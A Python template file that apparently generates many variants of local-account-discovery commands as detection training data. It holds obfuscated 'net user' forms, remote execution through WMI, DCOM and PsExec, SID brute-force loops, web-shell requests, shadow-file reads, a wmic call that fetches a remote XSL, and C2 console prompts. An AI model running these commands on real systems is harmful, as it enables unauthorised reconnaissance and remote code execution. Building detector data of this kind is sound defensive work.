"""Still more phrasings of T1087.001 by APIs, languages, consoles and platforms, and the near misses beside them."""

from __future__ import annotations

from training.generators.grammar import parse_templates

MORE_ACCOUNT_TEMPLATES = parse_templates(
    r"""
ma-net-caret cmd: «n^et u^ser¦ne^t us^er¦n""et us""er¦net.exe "user"¦"net" user¦@net user¦(net user)»‹maybe›
ma-net-variable cmd: «set c=net user&& call %c%¦set x=net1 user&& call %x%¦set q=user& call net %q%»
ma-net-delayed cmd: cmd /v:on /c "set a=net&& set b=user&& !a! !b!"
ma-net-path cmd: pushd C:\Windows\System32 & «net1 user¦.\net.exe user¦net users» & popd
ma-net-syswow cmd: C:\Windows\«SysWOW64¦Sysnative»\«net.exe¦net1.exe» user«¦ Administrator¦ Guest»
ma-net-forfiles cmd: forfiles /p C:\Windows\System32 /m net.exe /c "cmd /c net user"
ma-net-forfiles-accounts cmd: forfiles /m *.exe /c "«wmic useraccount get name¦cmd /c net1 user¦powershell Get-LocalUser»"
ma-net-pcalua cmd: pcalua.exe -a net.exe -c user
ma-net-conhost cmd: conhost.exe «--headless ¦»cmd /c net user > ‹file›
ma-net-rundll cmd: rundll32.exe shell32.dll,ShellExec_RunDLL «cmd.exe "/c net user > ‹dir›\‹name›.txt"¦net.exe user»
ma-net-mshta cmd: mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""cmd /c net user > ‹dir›\‹name›.txt"":close")
ma-net-runas cmd: runas /«netonly¦savecred» /user:‹domain›\‹user› "cmd /k net user"
ma-net-bat text: @echo off & echo === USERS === >> %OUT% & net user >> %OUT% & for /f "skip=4 tokens=1-3" %%a in ('net user') do net user %%a >> %OUT%
ma-net-bat-inventory text: call :section Accounts & net user >> "%LOG%" 2>&1 & wmic useraccount get name,sid,status >> "%LOG%"
ma-net-at cmd: at \\‹server› 02:00 cmd /c "net user > ‹dir›\‹name›.txt"
ma-net-schtasks-xml text: <Exec><Command>«net.exe</Command><Arguments>user¦cmd.exe</Command><Arguments>/c net user &gt; ‹dir›\‹name›.txt»</Arguments></Exec>
ma-net-tokens cmd: for /f "skip=4 tokens=1,2,3" %a in ('«net user¦net1 user»') do @echo %a & @echo %b & @echo %c
ma-net-type cmd: net user > %TEMP%\«u.txt & type %TEMP%\u.txt & del %TEMP%\u.txt¦o.tmp & type %TEMP%\o.tmp & del /q %TEMP%\o.tmp»
ma-net-all-three cmd: net user & net localgroup & net accounts > ‹file›
ma-net-chained-id cmd: whoami /all & «net user %USERNAME%¦net user» & net localgroup administrators
ma-net-self-var cmd: net user «"%USERNAME%"¦%username%¦!USERNAME!»
ma-net-builtin cmd: net user «DefaultAccount¦WDAGUtilityAccount¦IUSR_‹Word›¦SUPPORT_388945a0¦ASPNET¦HelpAssistant»
ma-net-builtin-find cmd: for %u in (Administrator Guest DefaultAccount WDAGUtilityAccount) do @net user %u | findstr /c:"Account active"
ma-net-last-logon powershell: foreach ($u in 'Administrator','Guest','‹user›') { net user $u | Select-String 'Last logon|Account active' }
ma-net-ps-regex powershell: (net user | Out-String) -split '\s{2,}' | Where-Object { $_ -and $_ -notmatch 'command completed' }
ma-net-ps-process powershell: $p = New-Object Diagnostics.ProcessStartInfo 'net.exe','user'; $p.UseShellExecute=$false; $p.RedirectStandardOutput=$true; [Diagnostics.Process]::Start($p).StandardOutput.ReadToEnd()
ma-net-ps-cmd-c powershell: «& cmd.exe /c 'net user'¦cmd /c "net user" 2>&1 | Out-Null¦$o = cmd /c net users; $o -join "`n"»
ma-net-ps-wmi-create powershell: Invoke-WmiMethod -ComputerName ‹server› -Class Win32_Process -Name Create -ArgumentList 'cmd /c net user > C:\«Windows\Temp¦Users\Public»\‹name›.txt'
ma-net-ps-cim-create powershell: Invoke-CimMethod -CimSession $s -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='net user'}
ma-net-ps-dcom powershell: [Activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','‹ip›')).Document.ActiveView.ExecuteShellCommand('cmd',$null,'/c net user > C:\Temp\‹name›.txt','7')
ma-net-node cmd: node -e "require('child_process').exec('«net user¦wmic useraccount get name»',(e,o)=>console.log(o))"
ma-net-php cmd: php -r "«system('net user');¦echo shell_exec('net user');¦passthru('wmic useraccount list brief');»"
ma-net-webshell text: «GET¦POST» /uploads/‹name›.«aspx¦php¦jsp»?cmd=net«+¦%20»user HTTP/1.1
ma-net-webshell-curl bash: curl «-s ¦-sk ¦»"http«s¦»://‹host›.‹fqdn›/‹name›.«aspx¦php¦jsp»?c=«net+user¦wmic+useraccount+get+name¦Get-LocalUser»"
ma-net-golang text: out, err := exec.Command("«cmd", "/C", "net user¦net", "user¦wmic", "useraccount", "get", "name»").Output()
ma-net-rust text: Command::new("net").arg("user").output().expect("net user failed")
ma-net-csharp text: Process.Start(new ProcessStartInfo("net.exe", "user") { RedirectStandardOutput = true, UseShellExecute = false });
ma-net-java text: Runtime.getRuntime().exec(new String[]{"cmd.exe", "/c", "«net user¦wmic useraccount get name»"});
ma-net-autoit cmd: AutoIt3.exe /AutoIt3ExecuteLine "RunWait(@ComSpec & ' /c net user > ‹name›.txt')"
ma-net-mssqlclient text: SQL (‹domain›\‹user› dbo@master)> «xp_cmdshell net user¦EXEC xp_cmdshell 'net1 user'»
ma-net-mysql-udf text: mysql> SELECT sys_eval('net user«¦ administrator»');
ma-net-output text: User accounts for \\«‹server›¦DESKTOP-‹hex›» ------------------------------------------------------------------------------- Administrator            DefaultAccount           Guest ‹user›            WDAGUtilityAccount The command completed successfully.
ma-net-output-named text: User name                    «Administrator¦‹user›¦Guest» Full Name  Comment  Country/region code 000 (System Default) Account active «Yes¦No» Account expires Never Password last set 3/‹n›/2025 Local Group Memberships *Users
ma-net-output-german text: Benutzerkonten fuer \\‹server› «Administrator            DefaultAccount           Gast¦‹user›            Gast            WDAGUtilityAccount» Der Befehl wurde erfolgreich ausgefuehrt.
ma-net-output-french text: comptes d'utilisateurs de \\‹server› Administrateur            ‹user›            Invite La commande s'est terminee correctement.
ma-wmic-output text: AccountType=512 Caption=‹server›\«Administrator¦‹user›» Disabled=«TRUE¦FALSE» LocalAccount=TRUE Lockout=FALSE Name=‹user› PasswordRequired=TRUE SID=S-1-5-21-‹pid›-‹pid›-‹pid›-500 SIDType=1
ma-wmic-output-csv text: Node,Name,SID ‹server›,«Administrator¦Guest¦‹user›»,S-1-5-21-‹pid›‹pid›-‹pid›-‹pid›-501
ma-localuser-output text: Name               Enabled Description ----               ------- ----------- Administrator      False   Built-in account for administering the computer/domain Guest False Built-in account for guest access ‹user› True
ma-localuser-output-json text: [{"AccountExpires":null,"Description":"Built-in account for guest access to the computer/domain","Enabled":false,"Name":"Guest","PrincipalSource":1},{"Enabled":true,"Name":"‹user›","PrincipalSource":1}]
ma-wmic-interactive text: wmic:root\cli>useraccount «list brief¦get name,sid¦where localaccount=true get name»
ma-wmic-namespace cmd: wmic /namespace:\\root\cimv2 path Win32_UserAccount where "Domain='%COMPUTERNAME%'" get Name«,Disabled¦,SID¦»
ma-wmic-stdin cmd: echo useraccount list brief | wmic
ma-wmic-alias-domain cmd: wmic useraccount where "domain='«%computername%¦‹server›»'" get name,«disabled¦lockout¦sid»
ma-wmic-clip cmd: wmic /output:CLIPBOARD useraccount get Name,«SID¦Caption»
ma-wmic-xsl cmd +T1220: wmic useraccount get /format:«"‹dir›\‹name›.xsl"¦"https://‹ip›/‹name›.xsl"»
ma-wmic-group-user cmd: wmic path Win32_GroupUser get PartComponent & wmic useraccount get name
ma-wmic-loop-servers cmd: for /f %s in (servers.txt) do wmic /node:%s useraccount where "LocalAccount=True" get name,sid >> ‹file›
ma-wmi-wbemtest text: wbemtest: Query «select * from Win32_UserAccount where LocalAccount=True¦SELECT Name FROM Win32_UserAccount» in \\.\root\cimv2
ma-wmi-python cmd: «python¦py -3» -c "import wmi; [print(u.Name, u.SID) for u in wmi.WMI(«¦'‹server›'»).Win32_UserAccount(LocalAccount=True)]"
ma-wmi-python-com cmd: python -c "import win32com.client as w; [print(u.Name) for u in w.GetObject('winmgmts:').InstancesOf('Win32_UserAccount')]"
ma-wmi-wmiquery bash: «wmiquery.py¦impacket-wmiquery» ‹domain›/‹user›:'‹pass›'@‹ip› <<< "SELECT Name,SID FROM Win32_UserAccount WHERE LocalAccount=True"
ma-wmi-wmic-linux bash: wmic -U ‹domain›/‹user›%‹pass› //‹ip› "select Name,SID«¦,Disabled» from Win32_UserAccount«¦ where LocalAccount=True»"
ma-wmi-nxc-query bash: «nxc¦netexec» wmi ‹ip› -u ‹user› -p '‹pass›' --wmi "select Name from win32_useraccount"
ma-wmi-jscript text: var e = new Enumerator(GetObject("winmgmts:\\\\.\\root\\cimv2").ExecQuery("SELECT * FROM Win32_UserAccount")); for (; !e.atEnd(); e.moveNext()) WScript.Echo(e.item().Name);
ma-wmi-jscript-adsi text: var c = GetObject("WinNT://" + host); c.Filter = ["user"]; for (var e = new Enumerator(c); !e.atEnd(); e.moveNext()) WScript.Echo(e.item().Name);
ma-wmi-vba text: Set colItems = GetObject("winmgmts:\\" & strComputer & "\root\cimv2").ExecQuery("Select * from Win32_UserAccount Where Domain = '" & strComputer & "'")
ma-wmi-csharp text: new ManagementObjectSearcher("SELECT «*¦Name, SID» FROM Win32_UserAccount WHERE LocalAccount = True").Get()
ma-wmi-csharp-select text: var users = new ManagementObjectSearcher(new SelectQuery("Win32_UserAccount")); foreach (ManagementObject u in users.Get()) Console.WriteLine(u["Name"]);
ma-wmi-ps-associators powershell: Get-CimInstance Win32_UserAccount -Filter "LocalAccount=True" | Get-CimAssociatedInstance -ResultClassName Win32_Group
ma-wmi-ps-ciminstance-host powershell: Get-CimInstance Win32_UserAccount -ComputerName «‹server›¦(gc ‹name›.txt)» -Filter "LocalAccount='True'" | Select PSComputerName,Name,SID
ma-wmi-ps-property powershell: Get-CimInstance -ClassName CIM_Account | select «Name,SID¦Caption,LocalAccount»
ma-wmi-ps-account-filter powershell: gcim Win32_Account -Filter "SIDType=1 AND LocalAccount=True"
ma-wmi-ps-searcher-type powershell: (New-Object System.Management.ManagementObjectSearcher("SELECT Name FROM Win32_UserAccount«¦ WHERE LocalAccount=TRUE»")).Get() | % { $_['Name'] }
ma-wmi-ps-winrm-enum cmd: winrm enumerate wmicimv2/* -filter:"select «*¦Name» from Win32_UserAccount«¦ where LocalAccount=True»" -r:‹server›
ma-wmi-ps-winrm-get cmd: winrm e wmicimv2/Win32_UserAccount«¦ -r:http://‹server›:5985 -u:‹user› -p:‹pass›»
ma-wmi-ps-getwsman powershell: Get-WSManInstance -Enumerate wmicimv2/* -Filter "select * from Win32_UserAccount" -ComputerName ‹server›
ma-wmi-sharpwmi cmd: ‹dir›\SharpWMI.exe action=query «computername=‹server› ¦»query="select * from win32_useraccount«¦ where localaccount=true»"
ma-wmi-wmieventlog text: Operation = Start IWbemServices::ExecQuery - root\cimv2 : select * from «Win32_UserAccount where LocalAccount=True¦Win32_UserAccount¦Win32_SystemAccount»
ma-api-netuserenum-c text: nStatus = NetUserEnum((LPCWSTR)pszServerName, dwLevel, FILTER_NORMAL_ACCOUNT, (LPBYTE*)&pBuf, MAX_PREFERRED_LENGTH, &dwEntriesRead, &dwTotalEntries, &dwResumeHandle);
ma-api-netuserenum-ctypes cmd: python -c "import ctypes as c; n=c.windll.netapi32; b=c.c_void_p(); e=c.c_ulong(); t=c.c_ulong(); print(n.NetUserEnum(None,«0¦1¦3»,2,c.byref(b),-1,c.byref(e),c.byref(t),None), e.value)"
ma-api-netuserenum-go text: windows.NewLazyDLL("netapi32.dll").NewProc("NetUserEnum").Call(0, 1, 2, uintptr(unsafe.Pointer(&buf)), 0xFFFFFFFF, uintptr(unsafe.Pointer(&n)), uintptr(unsafe.Pointer(&t)), 0)
ma-api-netuserenum-rust text: unsafe { NetUserEnum(PCWSTR::null(), «0¦1¦3», FILTER_NORMAL_ACCOUNT, &mut buf, MAX_PREFERRED_LENGTH, &mut read, &mut total, None) }
ma-api-netuserenum-nim text: let st = NetUserEnum(NULL, 1, FILTER_NORMAL_ACCOUNT, addr buf, MAX_PREFERRED_LENGTH, addr n, addr total, addr h)
ma-api-netuserenum-perl cmd: perl -MWin32API::Net -e "Win32API::Net::UserEnum('«¦\\\\‹server›»', \@u); print qq($_\n) for @u"
ma-api-netadmin-perl cmd: perl -MWin32::NetAdmin -e "Win32::NetAdmin::GetUsers('«¦\\\\‹server›»', FILTER_NORMAL_ACCOUNT, \%h); print join(qq(\n), keys %h)"
ma-api-netuserenum-ruby cmd: ruby -«rsys-admin¦rsys/admin» -e "Sys::Admin.users(localaccount: true).each { |u| puts u.name }"
ma-api-java text: com.sun.jna.platform.win32.Netapi32Util.getUsers(«¦"‹server›"»)
ma-api-python-getinfo cmd: python -c "import win32net; [print(win32net.NetUserGetInfo(None, u['name'], 3)) for u in win32net.NetUserEnum(None, 0)[0]]"
ma-api-displayinfo cmd: python -c "import win32net; print(win32net.NetQueryDisplayInformation(None, 1, 0, 100, 8192))"
ma-api-displayinfo-c text: NetQueryDisplayInformation(«NULL¦L"\\\\‹server›"», 1, i, 1000, MAX_PREFERRED_LENGTH, &dwRec, (PVOID*)&pBuff)
ma-api-sam-enumerate text: SamEnumerateUsersInDomain(domainHandle, &ctx, 0, &sam, 100, &count) ; SamLookupDomainInSamServer(hServer, L"«Builtin¦‹server›»")
ma-api-samr-rpc text: DCERPC SAMR «EnumDomainUsers request (opnum 13)¦EnumerateUsersInDomain response, ‹n› entries¦QueryDisplayInfo request level 1» ‹ip› -> ‹ip› \PIPE\samr
ma-api-zeek-samr text: ‹pid›.‹pid› C‹letters8› ‹ip› ‹pid› ‹ip› 445 0.00‹pid› \pipe\samr samr «SamrEnumerateUsersInDomain¦SamrQueryDisplayInformation¦SamrEnumerateUsersInDomain»
ma-api-python-impacket bash: python3 -c "from impacket.dcerpc.v5 import samr, transport; r=transport.SMBTransport('‹ip›',445,r'\samr','‹user›','‹pass›'); d=r.get_dce_rpc(); d.connect(); d.bind(samr.MSRPC_UUID_SAMR); print(samr.hSamrEnumerateUsersInDomain(d, h)['Buffer'])"
ma-api-lookupaccountsid text: for (rid = 500; rid < 1500; rid++) { AppendRid(sid, rid); if (LookupAccountSidW(«NULL¦server», sid, name, &n, dom, &d, &use)) wprintf(L"%s\n", name); }
ma-api-lookupsid-ps powershell: 500..1050 | % { try { (New-Object Security.Principal.SecurityIdentifier("$base-$_")).Translate([Security.Principal.NTAccount]).Value } catch {} }
ma-api-lookupsid-python cmd: python -c "import win32security as s; b=s.ConvertSidToStringSid(s.LookupAccountName(None,'Administrator')[0])[:-4]; [print(s.LookupAccountSid(None, s.ConvertStringSidToSid(b+'-'+str(r)))) for r in range(500,520)]"
ma-psgetsid-loop cmd: for /l %r in (500,1,1050) do «psgetsid¦PsGetsid64.exe» «\\‹server› ¦»S-1-5-21-‹pid›-‹pid›-‹pid›-%r
ma-psgetsid-remote cmd: «PsGetsid.exe¦psgetsid64» -accepteula \\‹server› «Administrator¦S-1-5-21-‹pid›-‹pid›-‹pid›-500¦Guest»
ma-sid2user-chain cmd: user2sid.exe «\\‹ip› ¦»guest && sid2user.exe «\\‹ip› ¦»5 21 ‹pid› ‹pid› ‹pid› 500
ma-adsi-vbs-file cmd: cscript //nologo ‹dir›\WinNTUsers.vbs «‹server›¦.» «> ‹file›¦»
ma-adsi-hta text: <script language="VBScript">For Each u In GetObject("WinNT://" & CreateObject("WScript.Network").ComputerName): If u.Class = "User" Then document.write u.Name: Next</script>
ma-adsi-csharp text: new DirectoryEntry("WinNT://" + Environment.MachineName + ",computer").Children.Cast<DirectoryEntry>().Where(c => c.SchemaClassName == "User").Select(c => c.Name)
ma-adsi-csharp-principal text: using var ctx = new PrincipalContext(ContextType.Machine); using var s = new PrincipalSearcher(new UserPrincipal(ctx)); foreach (var u in s.FindAll()) Console.WriteLine(u.SamAccountName);
ma-adsi-python cmd: python -c "import win32com.client; c=win32com.client.GetObject('WinNT://«.¦‹server›»,computer'); c.Filter=['user']; print([u.Name for u in c])"
ma-adsi-ironpython text: clr.AddReference('System.DirectoryServices.AccountManagement'); [p.Name for p in PrincipalSearcher(UserPrincipal(PrincipalContext(ContextType.Machine))).FindAll()]
ma-adsi-fsharp text: PrincipalSearcher(new UserPrincipal(new PrincipalContext(ContextType.Machine))).FindAll() |> Seq.iter (fun p -> printfn "%s" p.SamAccountName)
ma-adsi-ps-filter-add powershell: $c = [adsi]"WinNT://‹server›"; $c.Children.SchemaFilter.Add('user') | Out-Null; $c.Children | select «Name,LastLogin¦@{n='n';e={$_.Name}},UserFlags»
ma-adsi-ps-find powershell: $d = New-Object DirectoryServices.DirectoryEntry("WinNT://$env:COMPUTERNAME"); $d.Children | ? { $_.SchemaClassName -ieq 'user' } | % { $_.Name[0] }
ma-adsi-ps-flags powershell: ([ADSI]'WinNT://.').Children | where {$_.SchemaClassName -eq 'user'} | select Name,@{n='Disabled';e={[bool]($_.UserFlags.Value -band 2)}}
ma-localuser-pwsh7 powershell: pwsh -«c¦Command» { Import-Module Microsoft.PowerShell.LocalAccounts -UseWindowsPowerShell; Get-LocalUser | ft }
ma-localuser-compat cmd: pwsh.exe -NoLogo -NonInteractive -Command "Get-LocalUser | Select-Object Name,Enabled,LastLogon | ConvertTo-Json -Compress"
ma-localuser-qualified powershell: Microsoft.PowerShell.LocalAccounts\Get-LocalUser« | fl Name,SID,PasswordLastSet¦ -SID S-1-5-21-‹pid›-‹pid›-‹pid›-500»
ma-localuser-concat powershell: &('Get-Local'+'User')« | select Name¦»
ma-localuser-wildcard powershell: «& (gcm Get-Local*er)¦. (Get-Command 'Get-LocalU*')¦&(gal glu)»
ma-localuser-variable powershell: $accts = Get-LocalUser; foreach ($u in $accts) { '{0} {1} {2}' -f $u.Name, $u.Enabled, $u.PasswordLastSet }
ma-localuser-stale powershell: Get-LocalUser | Where-Object { $_.LastLogon -lt (Get-Date).AddDays(-«30¦90¦180») -and $_.Enabled } | Select-Object Name,LastLogon
ma-localuser-grid powershell: Get-LocalUser | «Out-GridView¦Out-GridView -Title 'Local accounts' -PassThru¦Out-Printer»
ma-localuser-compare powershell: Compare-Object (Import-Csv ‹dir›\baseline_users.csv).Name (Get-LocalUser).Name
ma-localuser-runspace powershell: [powershell]::Create().AddCommand('Get-LocalUser').Invoke()«¦ | select Name,SID»
ma-localuser-script-block powershell: [scriptblock]::Create('Get-LocalUser | select Name').Invoke()
ma-localuser-log text: CommandInvocation(Get-LocalUser): "Get-LocalUser" Context: Severity = Informational Host Name = ConsoleHost Engine Version = 5.1.‹pid›.‹n› User = ‹domain›\‹user›
ma-localuser-4104 text: Creating Scriptblock text (1 of 1): «Get-LocalUser | Select-Object *¦function Get-Accounts { Get-CimInstance Win32_UserAccount -Filter "LocalAccount=True" }; Get-Accounts¦$l = Get-LocalUser; $l | Export-Csv C:\ProgramData\‹name›.csv»
ma-localuser-transcript text: PS C:\Users\‹user›> Get-LocalUser
ma-localuser-dsc powershell: Invoke-DscResource -Name Script -Method Get -Property @{ GetScript = { @{ Result = (Get-LocalUser).Name } }; SetScript = {}; TestScript = { $true } } -ModuleName PSDesiredStateConfiguration
ma-localuser-laps powershell: Get-LocalUser | ? { $_.SID -match '-500$' } | select Name,PasswordLastSet
ma-localuser-sched powershell: Register-ScheduledTask -TaskName ‹name› -Action (New-ScheduledTaskAction -Execute powershell.exe -Argument '-c "Get-LocalUser | Export-Csv ‹dir›\‹name›.csv"') -Trigger (New-ScheduledTaskTrigger -Daily -At 3am)
ma-localuser-psexec cmd: «psexec64¦PAExec.exe¦PsExec.exe» @‹name›.txt -s -h powershell -NoProfile -Command "Get-LocalUser | Select Name,Enabled"
ma-localuser-winrs cmd: winrs -r:‹server› powershell -c "(Get-LocalUser).Name"
ma-localuser-ssh bash: ssh «-i ‹lfile› ¦»‹user›@‹ip› powershell.exe -NoProfile «Get-LocalUser¦"Get-CimInstance Win32_UserAccount"¦'glu | ft'»
ma-localuser-pywinrm bash: python3 -c "import winrm; print(winrm.Session('‹ip›', auth=('‹user›','‹pass›')).run_«ps('Get-LocalUser')¦cmd('net', ['user'])¦cmd('net user')».std_out.decode())"
ma-localuser-ansible bash: ansible windows -i ‹lfile› -m «win_shell¦ansible.windows.win_powershell» -a "«Get-LocalUser | Select Name¦script='Get-LocalUser'»"
ma-localuser-ansible-net bash: ansible win_hosts -m «ansible.windows.win_command¦win_command¦raw» -a "net user"
ma-localuser-salt bash: salt «-G 'os:Windows'¦'‹server›'» «cmd.run 'Get-LocalUser' shell=powershell¦user.list_users¦cmd.run 'net user'»
ma-localuser-salt-getent bash: salt «'*'¦-C 'G@os:Ubuntu'¦-E '‹word›.*'» user.«list_users¦getent»
ma-localuser-saltcall cmd: salt-call «--local ¦»user.«list_users¦getent¦info ‹user›¦info Administrator»
ma-localuser-puppet bash: puppet resource user«¦ root¦ ‹first›¦ --to_yaml»
ma-localuser-puppet-win cmd: "C:\Program Files\Puppet Labs\Puppet\bin\puppet.bat" resource user«¦ Administrator»
ma-localuser-bolt bash: bolt command run '«net user¦Get-LocalUser¦getent passwd¦cut -d: -f1 /etc/passwd»' --targets «winrm://‹server›¦ssh://‹ip›¦all»
ma-localuser-ohai bash: «ohai etc/passwd¦ohai passwd¦ohai -d ‹ldir› etc»
ma-localuser-knife bash: knife «ssh 'name:‹word›*' 'cut -d: -f1 /etc/passwd'¦winrm 'os:windows' 'net user' -x ‹user› -P '‹pass›'»
ma-localuser-facter text: ohai['etc']['passwd'].each { |name, u| puts "#{name} #{u['uid']}" }
ma-localuser-azure bash: az vm run-command invoke -g ‹project› -n ‹server› --command-id «RunPowerShellScript --scripts "Get-LocalUser"¦RunShellScript --scripts "cat /etc/passwd"¦RunPowerShellScript --scripts "net user"»
ma-localuser-azure-ps powershell: Invoke-AzVMRunCommand -ResourceGroupName '‹project›' -VMName '‹server›' -CommandId 'Run«PowerShellScript' -ScriptString 'Get-LocalUser¦ShellScript' -ScriptString 'getent passwd»'
ma-localuser-ssm bash: aws ssm send-command --instance-ids i-0‹hash› --document-name AWS-Run«PowerShellScript --parameters commands="Get-LocalUser"¦ShellScript --parameters 'commands=["cut -d: -f1 /etc/passwd"]'¦PowerShellScript --parameters 'commands=["net user"]'»
ma-localuser-gcloud bash: gcloud compute ssh ‹server› --zone europe-west1-b --command "«getent passwd¦cat /etc/passwd¦lslogins -u»"
ma-localuser-oci bash: oci instance-agent command create --compartment-id ocid1.‹name› --content '{"source":{"sourceType":"TEXT","text":"«cat /etc/passwd¦net user»"}}'
ma-localuser-sccm powershell: Invoke-CMScript -ScriptGuid ‹guid› -Device $d; # body: Get-LocalUser | Select-Object Name,Enabled
ma-localuser-cmpivot text: CMPivot on ‹Word›: «User | summarize count() by Device¦User | project Device, Name, SID, Disabled | where Disabled == false¦User | where LocalAccount == true»
ma-localuser-pdq text: PDQ «Inventory PowerShell scanner: Get-LocalUser | Select-Object Name, Enabled, SID¦Deploy command step: net user > \\‹server›\‹project›$\%COMPUTERNAME%.txt»
ma-localuser-intune text: Intune remediation detection script: $bad = Get-LocalUser | Where-Object { $_.Enabled -and $_.Name -notin $allowed }; if ($bad) { exit 1 }
ma-localuser-tanium text: Get «Local User Details¦Local User Login Dates» from all machines with Computer Name containing ‹word›
ma-localuser-crowdstrike text: «runscript -Raw=```Get-LocalUser | ft Name,Enabled,LastLogon```¦runscript -CloudFile="ListLocalUsers" -CommandLine=""¦runscript -Raw=```net user```»
ma-localuser-defender text: live response ‹server›: run «ListLocalUsers.ps1¦Get-LocalUsers.ps1¦enum_users.sh»
ma-localuser-sentinelone text: RemoteOps script on ‹server›: «Get-LocalUser | Format-List *¦net user¦cat /etc/passwd»
ma-localuser-cortex text: xdr live terminal ‹server› $ «net user¦Get-LocalUser¦getent passwd¦dscl . list /Users»
ma-localuser-carbon bash: python3 lr_session.py --sensor ‹pid› --exec "«cmd.exe /c net user¦wmic useraccount list brief¦cat /etc/passwd»"
ma-velociraptor text: SELECT * FROM Artifact.«Windows.Sys.Users()¦Linux.Sys.Users()¦MacOS.System.Users()»
ma-velociraptor-cli bash: velociraptor«.exe¦¦-v0.7-linux-amd64» artifacts collect «Windows.Sys.Users¦Linux.Sys.Users¦MacOS.System.Users¦Windows.Sys.AllUsers»«¦ --output ‹name›.zip¦ --format json»
ma-velociraptor-query cmd: velociraptor.exe query "SELECT Name, Uid, Gid, Description, Directory FROM «Artifact.Windows.Sys.Users()¦users()»"
ma-velociraptor-parse bash: velociraptor query "SELECT User, Uid, Homedir FROM parse_records_with_regex(file='/etc/passwd', regex='(?m)^(?P<User>[^:]+):([^:]+):(?P<Uid>[^:]+)')"
ma-osquery-join cmd: osqueryi.exe --json "select u.username, u.directory, l.time from users u left join logged_in_users l on u.username = l.user"
ma-osquery-distributed text: {"queries":{"‹name›":"SELECT «username, uid, directory FROM users¦* FROM users WHERE shell NOT LIKE '%nologin'¦uuid, username FROM users WHERE type='local'»"}}
ma-osquery-fleetctl bash: fleetctl query --hosts ‹server› --query "SELECT «*¦username, uid, shell» FROM users"
ma-osquery-shadow bash: sudo osqueryi "SELECT «username, password_status, last_change FROM shadow¦username, hash_alg FROM shadow»"
ma-osquery-log text: {"name":"pack_‹name›_users","hostIdentifier":"‹server›","columns":{"username":"«root¦‹first›¦Administrator»","uid":"«0¦1000¦500»","shell":"/bin/bash","directory":"/home/‹first›"},"action":"added"}
ma-osquery-macos bash: osqueryi --line "select username, uid, is_hidden from users where uid > 500"
ma-nirsoft cmd: ‹dir›\UserProfilesView.exe /«scomma¦stext¦shtml¦sxml» ‹file›
ma-dumpsec cmd: «DumpSec.exe /computer=\\‹server› /rpt=users /saveas=fixed /outfile=‹dir›\‹name›.txt¦‹dir›\DumpSec.exe /rpt=usersonly /saveas=csv /outfile=‹dir›\‹name›.csv»
ma-reskit-addusers cmd: addusers.exe «\\‹server› ¦»/d«:u¦» ‹dir›\‹name›.«txt¦csv»
ma-kape cmd: kape.exe --msource C:\ --mdest ‹dir›\kape --module «NetSystemInfo_User¦NetSystemInfo_User --mef csv¦NetSystemInfo_User,NetSystemInfo_LocalGroup»
ma-powersploit powershell: «ipmo .\PowerSploit.psd1; Get-NetLocalUser -ComputerName ‹server›¦Import-Module .\Recon.psd1; Get-NetLocalUser | select Name»
ma-powerview-machines powershell: Get-DomainComputer -Properties dnshostname | % { Get-NetLocalUser -ComputerName $_.dnshostname -ErrorAction SilentlyContinue }
ma-nishang powershell: . .\Get-Information.ps1; Get-Information; «Get-LocalUser¦net user»
ma-jaws powershell: powershell.exe -ExecutionPolicy Bypass -File «.\jaws-enum.ps1 -OutputFileName ‹name›.txt¦‹dir›\jaws-enum.ps1»; net user
ma-hostrecon powershell: Import-Module .\HostRecon.ps1; Invoke-HostRecon | Select-String -Context 0,30 'Local Users'
ma-privesccheck powershell: . .\PrivescCheck.ps1; Invoke-PrivescCheck -Extended; «Get-LocalUser¦net user»
ma-beacon-net text: beacon> net «user¦user \\‹server›¦user \\‹ip› ‹user›¦user ‹user›»
ma-beacon-powerpick text: beacon> «powerpick¦powershell¦psinject ‹pid› x64» «Get-LocalUser¦Get-CimInstance Win32_UserAccount¦net user»
ma-beacon-bof text: [*] Running inline-execute: /opt/CS-Situational-Awareness-BOF/SA/«netuser/netuser¦netuserenum/netuserenum».x64.o
ma-beacon-output text: [+] received output: Account information for \\.: «Administrator¦‹user›» Guest DefaultAccount ‹first›
ma-sliver-sa text: sliver («‹Word›_‹Word›¦‹Word›») > «sa-netuserenum¦sa-netuser ‹user›¦execute -o net user¦execute -o powershell Get-LocalUser»
ma-havoc-demon text: ‹letters8› Demon >> net user \\«localhost¦‹server›»
ma-mythic text: apollo > «shell net user¦powershell Get-LocalUser¦run -Executable net.exe -Arguments user¦powerpick Get-LocalUser»
ma-mythic-poseidon text: poseidon > «shell dscl . list /Users¦shell cat /etc/passwd¦cat /etc/passwd¦shell getent passwd»
ma-mythic-apfell text: apfell > shell_cmd «dscl . -list /Users¦dscacheutil -q user¦cut -d: -f1 /etc/passwd»
ma-brute-ratel text: brute ratel badger b-‹n› > «run net user¦sharpinline Seatbelt.exe LocalUsers¦net users»
ma-poshc2 text: «PoshC2 ‹user›@‹server› (PID:‹pid›) > Get-LocalUser¦(koadic: sta/js/mshta)$ cmdshell ‹n› # net user¦PoshC2 ‹user›@‹server› > net user»
ma-empire text: (Empire: ‹letters8›) > «shell net user¦shell Get-LocalUser¦usemodule powershell/situational_awareness/host/winenum; execute¦shell dscl . ls /Users»
ma-covenant text: (‹user›) > «Shell /shellcommand:"net user"¦PowerShell /powershellcommand:"Get-LocalUser"¦SharpShell /code:"new PrincipalSearcher(new UserPrincipal(new PrincipalContext(ContextType.Machine))).FindAll()"»
ma-merlin text: Merlin[agent][‹guid›]> run «net user¦net.exe user¦cat /etc/passwd¦getent passwd»
ma-pupy text: pupy >> «run shell_exec "net user"¦shell_exec "cat /etc/passwd"¦run shell_exec "getent passwd"»
ma-villain text: Villain > exec "«net user¦cat /etc/passwd»" ‹hash›
ma-meterpreter text: meterpreter > «execute -H -i -f cmd.exe -a "/c net user"¦run winenum; shell; net user¦powershell_execute Get-LocalUser¦cat /etc/passwd»
ma-meterpreter-linux text: msf6 > «use post/linux/gather/enum_system; run session=‹n›; sessions -c "cat /etc/passwd" -i ‹n›¦sessions -c "getent passwd" -i ‹n›¦sessions -C "cat /etc/passwd" -i ‹n›»
ma-meterpreter-snmp text: msf6 > use auxiliary/scanner/snmp/snmp_enumusers; set RHOSTS ‹ip›; run
